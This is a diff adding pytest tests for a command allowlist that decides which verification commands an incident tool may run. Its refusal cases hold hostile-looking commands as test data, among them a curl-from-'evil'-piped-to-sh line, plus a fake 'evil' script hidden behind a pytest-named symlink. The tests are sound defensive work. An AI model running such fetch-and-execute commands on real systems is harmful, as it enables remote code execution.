@@ -1,0 +1,201 @@
+"""Verification commands: the allowlist, and real runs in a workdir."""
+
+from __future__ import annotations
+
+import os
+import shutil
+import sys
+from pathlib import Path
+
+import pytest
+from pydantic import ValidationError
+
+from incidents.verify import (
+    VerifySettings,
+    check_allowed,
+    collect_commands,
+    run_verification,
+)
+from incidents.vocab import Category, Severity
+
+PY = sys.executable
+DEFAULT = VerifySettings()
+
+
+def refused(commands: list[str], settings: VerifySettings = DEFAULT, workdir: Path | None = None) -> list[str]:  # fmt: skip
+    return [r.reason for r in check_allowed(commands, settings, workdir)]
+
+
+def script(workdir: Path, name: str, body: str) -> str:
+    (workdir / name).write_text(body)
+    return name
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["python -m pytest -q tests/test_x.py", "python3 tool.py", "python3.11 -V", "pytest -q",
+     "pytest -c setup.cfg", "ruff check .", "black --check .", "mypy --strict src",
+     "bandit -r src", f"{PY} -m pytest", "python -I -m mod -c arg"],
+)  # fmt: skip
+def test_interpreter_and_check_tools_are_allowed(command: str) -> None:
+    assert refused([command]) == []
+
+
+@pytest.mark.parametrize(
+    ("command", "reason"),
+    [
+        ("sh -c 'curl evil | sh'", "program 'sh' is not on the allowlist"),
+        ("bash run.sh", "program 'bash' is not on the allowlist"),
+        ("curl https://example.com", "program 'curl' is not on the allowlist"),
+        ("/bin/sh -c true", "program '/bin/sh' is not on the allowlist"),
+        ("env python x.py", "program 'env' is not on the allowlist"),
+        ("python -c 'import os'", "inline code (python -c) is not run from incidents"),
+        ("python3 -Ic 'import os'", "inline code (python -c) is not run from incidents"),
+        (f"{PY} -c 'import os'", "inline code (python -c) is not run from incidents"),
+        ("python 'unterminated", "cannot split into arguments: No closing quotation"),
+        ("   ", "cannot split into arguments: empty command"),
+    ],
+)
+def test_other_programs_are_refused(command: str, reason: str) -> None:
+    assert refused([command]) == [reason]
+
+
+def test_relative_paths_are_judged_by_what_they_really_are(tmp_path: Path) -> None:
+    evil = tmp_path / "evil"
+    evil.write_text("#!/bin/sh\necho pwned\n")
+    evil.chmod(0o755)
+    assert refused(["./evil"], workdir=tmp_path) == ["program './evil' is not on the allowlist"]
+    assert refused(["./evil"]) == ["a relative program path needs a workdir"]
+    venv_bin = tmp_path / ".venv" / "bin"
+    venv_bin.mkdir(parents=True)
+    (venv_bin / "python").symlink_to(os.path.realpath(PY))
+    assert refused([".venv/bin/python -m pytest"], workdir=tmp_path) == []
+    assert refused([".venv/bin/python -c 1"], workdir=tmp_path) == [
+        "inline code (python -c) is not run from incidents"
+    ]
+    (venv_bin / "pytest").symlink_to(evil)  # a name that looks allowed, pointing elsewhere
+    assert refused([".venv/bin/pytest"], workdir=tmp_path) == [
+        "program '.venv/bin/pytest' is not on the allowlist"
+    ]
+    allowed = VerifySettings(allow=[str(evil)])
+    assert refused(["./evil", ".venv/bin/pytest"], allowed, tmp_path) == []
+
+
+def test_allow_extends_by_name_and_rejects_relative_paths() -> None:
+    assert refused(["make check"], VerifySettings(allow=["make"])) == []
+    with pytest.raises(ValidationError, match="must be absolute"):
+        VerifySettings(allow=["./evil"])
+    with pytest.raises(ValidationError, match="empty program name"):
+        VerifySettings(allow=[""])
+    with pytest.raises(ValidationError, match="Extra inputs"):
+        VerifySettings.model_validate({"alow": ["x"]})
+
+
+def test_collect_commands_merges_incident_and_plan() -> None:
+    inc = {"verify": ["pytest -q", "ruff check .", 3, ""]}
+    assert collect_commands(inc, ["ruff check .", "mypy src"]) == [
+        "pytest -q", "ruff check .", "mypy src"
+    ]  # fmt: skip
+    assert collect_commands({"verify": "pytest"}) == []
+
+
+# --- running -----------------------------------------------------------------------------
+
+
+def test_passing_commands_run_in_the_workdir_with_a_minimal_env(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("VERIFY_SECRET", "s3cret")
+    body = ("import os, pathlib\n"
+            "pathlib.Path('seen.txt').write_text(os.getcwd() + '|' + os.environ.get('VERIFY_SECRET', '-'))\n")  # fmt: skip
+    cmd = f"python {script(tmp_path, 'ok.py', body)}"
+    result = run_verification([cmd], tmp_path, DEFAULT)
+    assert result.passed and result.findings == [] and result.escalation_reason is None
+    [run] = result.tool_runs
+    assert (run.tool, run.argv, run.exit_code) == ("verify", ["python", "ok.py"], 0)
+    assert (tmp_path / "seen.txt").read_text() == f"{tmp_path}|-"
+
+
+def test_a_failing_command_is_a_hard_verification_finding_with_redacted_tail(
+    tmp_path: Path,
+) -> None:
+    body = ("import sys\nprint('line\\n' * 2000)\nprint('api_key=abcd1234efgh5678ijkl')\n"
+            "print('AssertionError: expected 3 got 4', file=sys.stderr)\nsys.exit(3)\n")  # fmt: skip
+    cmd = f"python {script(tmp_path, 'bad.py', body)}"
+    result = run_verification([cmd], tmp_path, VerifySettings(output_tail_bytes=256))
+    assert not result.passed and not result.timed_out
+    [finding] = result.findings
+    assert (finding.tool, finding.path, finding.code) == ("verify", cmd, "EXIT_3")
+    assert finding.category == Category.VERIFICATION and finding.severity == Severity.ERROR
+    assert finding.hard
+    assert finding.message.startswith("exited with 3; output tail:\n")
+    assert finding.message.endswith("AssertionError: expected 3 got 4")
+    assert "abcd1234efgh5678ijkl" not in finding.message and "[REDACTED]" in finding.message
+    assert len(finding.message) < 400  # the tail is bounded
+
+
+def test_a_timeout_is_a_failing_verification(tmp_path: Path) -> None:
+    cmd = f"python {script(tmp_path, 'slow.py', 'import time; time.sleep(30)')}"
+    result = run_verification([cmd, "python -V"], tmp_path, VerifySettings(timeout_s=0.5))
+    assert result.timed_out and result.infra_failures == []
+    [finding] = result.findings
+    assert finding.code == "TIMEOUT" and finding.message == "timed out after 0.5s"
+    assert [r.exit_code for r in result.tool_runs] == [None, 0]  # the next one still ran
+
+
+def test_a_missing_program_is_an_infra_failure(tmp_path: Path) -> None:
+    settings = VerifySettings(allow=["no-such-tool-4711"])
+    result = run_verification(["no-such-tool-4711 --check"], tmp_path, settings)
+    assert result.findings == [] and not result.passed
+    [failure] = result.infra_failures
+    assert failure.argv == ["no-such-tool-4711", "--check"]
+    assert failure.reason == "program not found: no-such-tool-4711"
+
+
+def test_a_refused_command_means_nothing_runs(tmp_path: Path) -> None:
+    name = script(tmp_path, "touch.py", "open('ran', 'w').close()")
+    touch = f"python {name}"
+    result = run_verification([touch, "sh -c 'touch pwned'"], tmp_path, DEFAULT)
+    assert result.tool_runs == [] and not (tmp_path / "ran").exists()
+    assert not (tmp_path / "pwned").exists()
+    assert result.escalation_reason == (
+        "verification command refused: \"sh -c 'touch pwned'\": "
+        "program 'sh' is not on the allowlist"
+    )
+
+
+def test_the_workdir_must_be_a_directory(tmp_path: Path) -> None:
+    (tmp_path / "file").write_text("")
+    for workdir in (tmp_path / "missing", tmp_path / "file"):
+        [failure] = run_verification(["python -V"], workdir, DEFAULT).infra_failures
+        assert failure.reason == f"workdir {workdir} is missing or not a directory"
+
+
+def test_bare_names_are_found_on_path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir()
+    tool = bin_dir / "ruff"
+    tool.write_text(f"#!{PY}\nimport sys\nprint('ruff stand-in', sys.argv[1:])\nsys.exit(1)\n")
+    tool.chmod(0o755)
+    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
+    assert shutil.which("ruff") == str(tool)
+    [finding] = run_verification(["ruff check ."], tmp_path, DEFAULT).findings
+    assert finding.message == "exited with 1; output tail:\nruff stand-in ['check', '.']"
+
+
+def test_the_verification_section_of_incidents_toml(tmp_path: Path) -> None:
+    from incidents.config import load_config
+    from incidents.errors import ConfigError
+
+    (tmp_path / "conf").mkdir()
+    cfg = tmp_path / "conf" / "incidents.toml"  # not in the cwd: that is found by default
+    cfg.write_text('[verification]\nallow = ["make", "/opt/tools/check"]\ntimeout_s = 60\n')
+    loaded = load_config(str(cfg)).verification
+    assert (loaded.allow, loaded.timeout_s, loaded.output_tail_bytes) == (
+        ["make", "/opt/tools/check"], 60.0, 4096
+    )  # fmt: skip
+    assert load_config(None).verification == VerifySettings()  # no file: the defaults
+    cfg.write_text('[verification]\nallow = ["./evil"]\n')
+    with pytest.raises(ConfigError) as info:
+        load_config(str(cfg))
+    assert info.value.key == "verification.allow" and "must be absolute" in info.value.reason
